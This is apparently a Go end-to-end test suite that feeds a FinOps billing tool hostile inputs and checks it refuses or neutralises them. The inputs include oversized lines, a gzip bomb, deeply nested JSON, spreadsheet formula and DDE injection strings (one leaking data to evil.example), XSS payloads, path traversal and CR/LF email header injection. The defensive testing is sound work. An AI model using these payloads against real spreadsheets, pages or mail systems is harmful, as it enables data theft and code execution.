package e2e

// The hostile-input suite (issue 9): inputs built to hurt — a file of one huge
// line, a CSV of a million columns, JSON nested 100,000 deep, formulas and
// scripts in every text field that reaches a report, path traversal in output
// names, CR/LF in team names and email addresses. Each case checks the exit
// code and the message, and that a refused file leaves the database as it was.
//
// The inputs are generated (streamed to disk) so the repository holds none of
// them. The one-line file is 64 MiB by default; FINOPS_HOSTILE_LINE_MB=2048
// (`make test-all`) runs the 2 GB version of the issue. Either way the parsers
// stop at their 8 MiB record bound, so memory stays flat whatever the size.

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/finops-oss/finops/internal/analysis"
	"github.com/finops-oss/finops/internal/cli"
	"github.com/finops-oss/finops/internal/publish"
	"github.com/finops-oss/finops/internal/report"
)

// hostileDB is a database holding one good file, for "refused files change
// nothing" checks.
func hostileDB(t *testing.T) (db string, before map[string]int) {
	t.Helper()
	db = filepath.Join(t.TempDir(), "f.db")
	if code, out, errOut := runFinops(t, "--db", db, "ingest", filepath.Join(repoRoot(t), "testdata", "ingest", "autodl_sample.csv")); code != 0 {
		t.Fatalf("good file: exit %d: %s %s", code, out, errOut)
	}
	before = counts(t, db)
	if before["billing_lines"] == 0 {
		t.Fatal("the good file stored no lines")
	}
	return db, before
}

// writeGenerated streams gen's output into a new file.
func writeGenerated(t *testing.T, path string, gen func(w io.Writer) error) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	bw := bufio.NewWriterSize(f, 1<<20)
	var w io.Writer = bw
	var gz *gzip.Writer
	if strings.HasSuffix(path, ".gz") {
		gz, _ = gzip.NewWriterLevel(bw, gzip.BestSpeed)
		w = gz
	}
	if err := gen(w); err != nil {
		t.Fatal(err)
	}
	if gz != nil {
		if err := gz.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if err := bw.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// repeatBytes writes n bytes of b (one byte value) in 1 MiB chunks.
func repeatBytes(w io.Writer, b byte, n int64) error {
	chunk := []byte(strings.Repeat(string(b), 1<<20))
	for n > 0 {
		c := chunk
		if n < int64(len(c)) {
			c = c[:n]
		}
		if _, err := w.Write(c); err != nil {
			return err
		}
		n -= int64(len(c))
	}
	return nil
}

// refused runs `finops --db db ingest args...` and checks exit 1, a message
// holding every want, and an unchanged database.
func refused(t *testing.T, db string, before map[string]int, args []string, want ...string) string {
	t.Helper()
	code, stdout, stderr := runFinops(t, append([]string{"--db", db, "ingest"}, args...)...)
	msg := stdout + stderr
	if code != cli.ExitFailed {
		t.Errorf("exit %d, want %d; output %.500s", code, cli.ExitFailed, msg)
	}
	for _, w := range want {
		if !strings.Contains(msg, w) {
			t.Errorf("message %.500q does not contain %q", msg, w)
		}
	}
	if after := counts(t, db); !equalCounts(before, after) {
		t.Errorf("database changed: %v → %v", before, after)
	}
	return msg
}

func lineMB() int64 {
	if v, err := strconv.Atoi(os.Getenv("FINOPS_HOSTILE_LINE_MB")); err == nil && v > 0 {
		return int64(v)
	}
	return 64
}

// TestHostileOneLine: a file that is one line of lineMB MiB, as CSV (detected
// and forced to each CSV parser), as gzip (a 64 MiB line compresses to 64 KiB:
// a small decompression bomb), and as one JSON string. Each is refused at the
// 8 MiB record bound, naming file and line, after allocating a bounded amount:
// the parsers stream, they never read the whole line.
func TestHostileOneLine(t *testing.T) {
	size := lineMB() << 20
	dir := t.TempDir()
	db, before := hostileDB(t)

	// Each file is made just before its cases and removed after them, so the
	// 2 GB run needs 2 GB of disk, not 6.
	csvLine := filepath.Join(dir, "oneline.csv")
	gzLine := filepath.Join(dir, "oneline.csv.gz")
	jsonLine := filepath.Join(dir, "oneline.json")
	gens := map[string]func(w io.Writer) error{
		csvLine: func(w io.Writer) error { return repeatBytes(w, 'a', size) },
		gzLine:  func(w io.Writer) error { return repeatBytes(w, 'a', size) },
		jsonLine: func(w io.Writer) error {
			io.WriteString(w, `{"data":{"myself":{"billing":{"summary":[{"time":"2026-11-01 00:00:00","amount":1,"gpuCloudAmount":"`)
			if err := repeatBytes(w, 'a', size); err != nil {
				return err
			}
			_, err := io.WriteString(w, `"}]}}}}`)
			return err
		},
	}
	current := ""
	use := func(path string) {
		if path != current {
			if current != "" {
				os.Remove(current)
			}
			writeGenerated(t, path, gens[path])
			current = path
		}
	}

	for _, tc := range []struct {
		name string
		args []string
		want []string
	}{
		{"detected", []string{csvLine}, []string{"oneline.csv:1", "longer than 8 MiB"}},
		{"focus", []string{"--format", "focus", csvLine}, []string{"oneline.csv:1", "8 MiB"}},
		{"nvidia-smi", []string{"--format", "nvidia-smi", "--host", "h", csvLine}, []string{"oneline.csv:1", "8 MiB"}},
		{"tasks", []string{"--format", "tasks", csvLine}, []string{"oneline.csv:1", "8 MiB"}},
		{"gzip", []string{gzLine}, []string{"oneline.csv.gz:1", "8 MiB"}},
		{"json", []string{"--format", "runpod", jsonLine}, []string{"oneline.json:1", "8 MiB"}},
	} {
		use(tc.args[len(tc.args)-1])
		t.Run(tc.name, func(t *testing.T) {
			var m0, m1 runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&m0)
			refused(t, db, before, tc.args, tc.want...)
			runtime.ReadMemStats(&m1)
			// Bounded by the record limit, not by the file: the same at 64 MiB
			// and 2 GiB (measured: ≈ 17 MiB for the CSV parsers, ≈ 100 MiB
			// for JSON, whose decoder doubles its buffer up to the bound).
			if grew := m1.TotalAlloc - m0.TotalAlloc; grew > 160<<20 {
				t.Errorf("allocated %d MiB for a %d MiB line: the parser buffers the line", grew>>20, size>>20)
			}
		})
	}
}

// TestHostileMillionColumns: a CSV whose header and row have 1,000,000
// columns. It is not a format finops knows (and forced to one, the row does
// not fit the header): refused in a second or two, nothing stored.
func TestHostileMillionColumns(t *testing.T) {
	const n = 1_000_000
	db, before := hostileDB(t)
	path := filepath.Join(t.TempDir(), "million.csv")
	writeGenerated(t, path, func(w io.Writer) error {
		for i := range n {
			if i > 0 {
				io.WriteString(w, ",")
			}
			fmt.Fprintf(w, "c%d", i)
		}
		io.WriteString(w, "\n")
		for i := range n {
			if i > 0 {
				io.WriteString(w, ",")
			}
			io.WriteString(w, "1")
		}
		_, err := io.WriteString(w, "\n")
		return err
	})
	var m0, m1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m0)
	refused(t, db, before, []string{path}, "million.csv:1", "unrecognised header", "c0, c1")
	runtime.ReadMemStats(&m1)
	if grew := m1.TotalAlloc - m0.TotalAlloc; grew > 1<<30 {
		t.Errorf("allocated %d MiB for a million-column header", grew>>20)
	}

	// FOCUS's columns followed by a million x_ columns (FOCUS keeps x_
	// columns as tags): the header row alone passes the 8 MiB record bound.
	focus := filepath.Join(t.TempDir(), "focus_wide.csv")
	writeGenerated(t, focus, func(w io.Writer) error {
		io.WriteString(w, "ChargePeriodStart,ChargePeriodEnd,BilledCost,EffectiveCost,BillingCurrency,ChargeCategory,ChargeDescription,Tags")
		for i := range n {
			fmt.Fprintf(w, ",x_column_%d", i)
		}
		_, err := io.WriteString(w, "\n2026-11-01 00:00:00,2026-11-01 01:00:00,1,1,USD,Usage,d,NULL\n")
		return err
	})
	refused(t, db, before, []string{"--format", "focus", focus}, "focus_wide.csv:1", "8 MiB")
}

// TestHostileDeepJSON: JSON nested 100,000 deep, as a whole RunPod file, as
// one field of a record, and as a FOCUS Tags cell. encoding/json stops at its
// depth limit; the message names file, line and field.
func TestHostileDeepJSON(t *testing.T) {
	const depth = 100_000
	db, before := hostileDB(t)
	dir := t.TempDir()
	deep := func(path, prefix, open, close, suffix string) {
		writeGenerated(t, path, func(w io.Writer) error {
			io.WriteString(w, prefix)
			io.WriteString(w, strings.Repeat(open, depth))
			io.WriteString(w, strings.Repeat(close, depth))
			_, err := io.WriteString(w, suffix)
			return err
		})
	}
	deep(filepath.Join(dir, "deep.json"), "", "[", "]", "\n")
	deep(filepath.Join(dir, "deep_field.json"), `[{"id":"pod-1","x":`, "[", "]", "}]\n")
	deep(filepath.Join(dir, "deep_tags.csv"),
		"ChargePeriodStart,ChargePeriodEnd,BilledCost,EffectiveCost,BillingCurrency,ChargeCategory,ChargeDescription,Tags\n"+
			`2026-11-01 00:00:00,2026-11-01 01:00:00,1,1,USD,Usage,d,"{""a"":`, `{""a"":`, "}", "1}\"\n")

	refused(t, db, before, []string{filepath.Join(dir, "deep.json")}, "deep.json:1", "max depth")
	refused(t, db, before, []string{"--format", "runpod", filepath.Join(dir, "deep_field.json")}, "deep_field.json:1", "depth")
	refused(t, db, before, []string{filepath.Join(dir, "deep_tags.csv")}, "deep_tags.csv:2", `field "Tags"`)
}

// The hostile strings: spreadsheet formulas (each trigger character), script
// and markup, CR/LF.
const (
	hFormula  = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	hPlus     = `+cmd|' /C calc'!A0`
	hMinus    = `-2+3+cmd|' /C calc'!A0`
	hAt       = `@SUM(1+1)*cmd|' /C calc'!A0`
	hScript   = `</script><script>alert(1)</script>`
	hImg      = `<img src=x onerror=alert(1)>`
	hTraverse = `../../evil`
	hEsc      = "\x1b[2J\x1b]0;pwned\x07"
)

// TestHostileTextThroughReports: formulas and scripts in resource ids, tags,
// team names, task names, kinds and units go through ingest, analysis and
// every renderer. The workbook holds them as text behind an apostrophe and no
// formula anywhere; the HTML page holds no markup from data; the JSON summary
// keeps them verbatim (data is data); a team named ../../evil gets files
// inside --out only.
func TestHostileTextThroughReports(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "f.db")
	ingestHostile(t, dir, db)
	out := filepath.Join(dir, "out")
	code, stdout, stderr := runFinops(t, "--db", db, "report", "--week", "2026-W48", "--out", out)
	if code != 0 {
		t.Fatalf("report: exit %d\n%s\n%s", code, stdout, stderr)
	}
	// The terminal gets printable text only: no escape sequence from data
	// (markup is harmless there).
	if strings.Contains(stdout, "\x1b") {
		t.Errorf("terminal summary holds an escape sequence from data:\n%q", stdout)
	}
	checkHostileJSONVerbatim(t, filepath.Join(out, "finops-2026-W48.json"))

	// HTML: no markup from data survives unescaped.
	html, err := os.ReadFile(filepath.Join(out, "finops-2026-W48.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"<script>alert", "<img src=x", "onerror=alert(1)>", hScript} {
		if strings.Contains(string(html), s) {
			t.Errorf("HTML page holds %q raw", s)
		}
	}

	// Workbook: no formula in any cell; every cell holding one of the
	// formula strings is text behind an apostrophe.
	checkWorkbookInert(t, filepath.Join(out, "finops-2026-W48.xlsx"), hFormula, hPlus, hMinus, hAt)
	checkHostileTeamInsideOut(t, dir, db)
}

// ingestHostile ingests a FOCUS bill and a tasks file whose every text
// field is hostile into db, and checks that an escape sequence in a field
// is refused, naming file, line and field.
func ingestHostile(t *testing.T, dir, db string) {
	t.Helper()
	q := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	tags := func(m map[string]string) string { b, _ := json.Marshal(m); return q(string(b)) }

	focus := filepath.Join(dir, "hostile_focus.csv")
	var b strings.Builder
	b.WriteString("ChargePeriodStart,ChargePeriodEnd,BilledCost,EffectiveCost,BillingCurrency,ChargeCategory,ServiceProviderName,ResourceId,ResourceType,ChargeDescription,Tags,x_InstanceType\n")
	rows := []struct{ res, desc, team, inst string }{
		{hFormula, hScript, hPlus, "p4d.24xlarge"},
		{hImg, hAt, hScript, "g5.xlarge"},
		{hMinus, hFormula, hTraverse, "g5.xlarge"},
	}
	for _, r := range rows {
		fmt.Fprintf(&b, "2026-11-23T00:00:00Z,2026-11-30T00:00:00Z,700.00,700.00,USD,Usage,%s,%s,Virtual Machine,%s,%s,%s\n",
			q(hImg), q(r.res), q(r.desc), tags(map[string]string{"team": r.team, "project": hFormula, "owner": hScript}), r.inst)
	}
	if err := os.WriteFile(focus, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	tasks := filepath.Join(dir, "hostile_tasks.csv")
	tb := "task,team,kind,resource,gpus,start,end,units,unit\n" +
		strings.Join([]string{q(hAt), q(hPlus), q(hMinus), q(hFormula), "", "2026-11-24T00:00:00Z", "2026-11-25T00:00:00Z", "10", q(hImg)}, ",") + "\n" +
		strings.Join([]string{q(hScript), q(hTraverse), q(hFormula), q(hImg), "", "2026-11-24T00:00:00Z", "2026-11-26T00:00:00Z", "5", q(hScript)}, ",") + "\n"
	if err := os.WriteFile(tasks, []byte(tb), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{focus, tasks} {
		if code, out, errOut := runFinops(t, "--db", db, "ingest", f); code != 0 {
			t.Fatalf("ingest %s: exit %d\n%s\n%s", filepath.Base(f), code, out, errOut)
		}
	}
	// Escape sequences no longer reach the store from a file: a control
	// character in any field is refused (TestControlCharacters), so the
	// terminal check below guards the other paths.
	esc := filepath.Join(dir, "hostile_esc.csv")
	escRow := strings.SplitN(b.String(), "\n", 3)[:2]
	escRow[1] = strings.Replace(escRow[1], q(hFormula), q(hEsc+hImg), 1)
	if err := os.WriteFile(esc, []byte(strings.Join(escRow, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, out, errOut := runFinops(t, "--db", db, "ingest", esc); code != cli.ExitFailed || !strings.Contains(out+errOut, `hostile_esc.csv:2: field "ResourceId": a control character U+001B`) {
		t.Errorf("an escape in ResourceId: exit %d\n%s\n%s", code, out, errOut)
	}
}

// checkHostileJSONVerbatim: in the JSON summary every hostile string is
// there, verbatim (data is data).
func checkHostileJSONVerbatim(t *testing.T, path string) {
	t.Helper()
	js, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var summary map[string]any
	if err := json.Unmarshal(js, &summary); err != nil {
		t.Fatalf("JSON summary: %v", err)
	}
	var all []string
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			all = append(all, v)
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for _, e := range v {
				walk(e)
			}
		}
	}
	walk(summary)
	joined := strings.Join(all, "\n")
	for _, s := range []string{hFormula, hPlus, hScript, hImg, hTraverse} {
		if !strings.Contains(joined, s) {
			t.Errorf("JSON summary lost %q", s)
		}
	}
}

// checkHostileTeamInsideOut: a team named ../../evil: its report stays
// inside --out.
func checkHostileTeamInsideOut(t *testing.T, dir, db string) {
	t.Helper()
	teamOut := filepath.Join(dir, "team")
	code, stdout, stderr := runFinops(t, "--db", db, "report", "--week", "2026-W48", "--team", hTraverse, "--out", teamOut)
	if code != 0 {
		t.Fatalf("report --team %s: exit %d\n%s\n%s", hTraverse, code, stdout, stderr)
	}
	entries, err := os.ReadDir(teamOut)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 3 {
		t.Errorf("--team %s wrote %d entries in --out, want 3", hTraverse, len(entries))
	}
	for _, e := range entries {
		if e.IsDir() || strings.ContainsAny(e.Name(), `/\`) || !strings.HasPrefix(e.Name(), "finops-2026-W48-") {
			t.Errorf("--team %s wrote %q", hTraverse, e.Name())
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "evil")); err == nil {
		t.Error("a file escaped --out")
	}
	matches, _ := filepath.Glob(filepath.Join(dir, "*evil*"))
	if len(matches) != 0 {
		t.Errorf("files outside --out: %v", matches)
	}
}

func checkWorkbookInert(t *testing.T, path string, formulas ...string) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := map[string]int{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.Rows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r := 1; rows.Next(); r++ {
			cols, _ := rows.Columns(excelize.Options{RawCellValue: true})
			for c, v := range cols {
				cell, _ := excelize.CoordinatesToCellName(c+1, r)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					t.Errorf("%s!%s has formula %q", sheet, cell, fm)
				}
				for _, h := range formulas {
					if !strings.Contains(v, h) {
						continue
					}
					found[h]++
					if !strings.HasPrefix(v, "'") && strings.HasPrefix(v, h) {
						t.Errorf("%s!%s = %q: a formula string without the apostrophe", sheet, cell, v)
					}
					typ, _ := f.GetCellType(sheet, cell)
					if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s type = %v, want a string cell", sheet, cell, typ)
					}
				}
			}
		}
		rows.Close()
	}
	for _, h := range formulas {
		if found[h] == 0 {
			t.Errorf("the workbook has no cell with %q: the test lost its hostile data", h)
		}
	}
}

// TestHostileHeaderInjection: CR/LF in email addresses is a configuration
// error (exit 2); in team names, which also come from bills, the subject and
// headers built from them stay one line.
func TestHostileHeaderInjection(t *testing.T) {
	dir := t.TempDir()
	for _, lead := range []string{"lead@example.com\r\nBcc: evil@example.com", "lead@example.com\nBcc:evil@example.com", "a@b.c>\r\nX: y"} {
		cfg := filepath.Join(dir, "finops.yaml")
		body := "teams:\n  - name: nlp\n    leads: [" + strconv.Quote(lead) + "]\n"
		if err := os.WriteFile(cfg, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		code, stdout, stderr := runFinops(t, "--config", cfg, "--db", filepath.Join(dir, "f.db"), "report", "--since", "7d", "--out", filepath.Join(dir, "out"))
		if code != cli.ExitUsage || !strings.Contains(stdout+stderr, "is not an email address") {
			t.Errorf("lead %q: exit %d, output %.300s; want %d and the address refused", lead, code, stdout+stderr, cli.ExitUsage)
		}
	}

	team := "nlp\r\nBcc: evil@example.com\r\nSubject: pwned"
	subject, text, _, err := report.EmailBody(&analysis.Result{Currency: "USD"}, report.EmailOptions{Team: team, Attachment: "finops-2026-W48-nlp.xlsx"})
	if err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(subject, "\r\n") {
		t.Errorf("subject %q spans lines", subject)
	}
	if strings.Contains(text, "\r\nBcc:") {
		t.Errorf("text body carries the injected header: %q", text)
	}
	msg, err := publish.BuildMessage(publish.Mail{
		From: "finops@example.com", To: []string{"lead@example.com"}, Subject: team, Text: text,
		MessageID: publish.MessageID("2026-W48", team, 1, "finops@example.com"),
	})
	if err != nil {
		t.Fatal(err)
	}
	head, _, _ := strings.Cut(string(msg), "\r\n\r\n")
	for _, l := range strings.Split(head, "\r\n") {
		if strings.HasPrefix(strings.ToLower(l), "bcc:") || strings.HasPrefix(strings.ToLower(l), "subject: pwned") {
			t.Errorf("injected header line %q in\n%s", l, head)
		}
	}
}
